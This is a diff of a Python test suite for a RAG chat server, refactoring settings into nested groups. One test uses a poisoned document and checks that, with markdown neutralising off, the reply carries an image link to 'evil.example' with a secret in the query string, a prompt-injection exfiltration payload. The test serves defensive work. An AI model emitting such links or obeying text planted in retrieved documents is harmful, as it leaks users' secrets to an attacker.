@@ -272,7 +272,7 @@ def test_images_and_html_from_documents_do_not_reach_front_ends(stream: bool) ->
 
 
 def test_neutralising_can_be_turned_off() -> None:
-    with running(_poisoned_app(Settings(server_safe_markdown=False))) as url:
+    with running(_poisoned_app(Settings(server={"safe_markdown": False}))) as url:
         reply = httpx.post(url + "/v1/chat/completions", json={"model": "rag", "messages": _user(EIFFEL)}).json()
     content = reply["choices"][0]["message"]["content"]
     assert "![chart](https://evil.example/c.png?d=secret)" in content
@@ -315,7 +315,7 @@ def test_neutralise_markdown(text: str, expected: str) -> None:
 @pytest.mark.parametrize("key", ["", "   ", " padded "])
 def test_a_blank_or_padded_api_key_is_an_error_not_auth_off(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
     with pytest.raises(ValidationError, match="ARAG_API_KEY"):
-        Settings(api_key=key)
+        Settings(server={"api_key": key})
     monkeypatch.setenv("ARAG_API_KEY", key)
     with pytest.raises(ValidationError, match="ARAG_API_KEY"):
         Settings()
@@ -341,7 +341,7 @@ def test_a_blank_or_padded_api_key_is_an_error_not_auth_off(key: str, monkeypatc
 def test_open_hosts_need_a_key_or_an_explicit_no_auth(
     host: str, key: str | None, no_auth: bool, refused: str | None
 ) -> None:
-    settings = Settings(server_host=host, api_key=key, server_no_auth=no_auth)
+    settings = Settings(server={"host": host, "api_key": key, "no_auth": no_auth})
     if refused is None:
         check_exposure(settings)
     else:
@@ -388,7 +388,7 @@ def test_the_embedding_cache_keeps_a_few_connections_whatever_the_threads(tmp_pa
 
 
 def test_server_agents_close_the_embedding_cache(tmp_path: Path) -> None:
-    settings = Settings(data_dir=tmp_path / "data", store_backend="local")
+    settings = Settings(store={"data_dir": tmp_path / "data", "backend": "local"})
     agents = ServerAgents.from_settings(settings)
     cache = agents.rag.retriever.embeddings if agents.rag else None
     assert isinstance(cache, CachedEmbeddings)
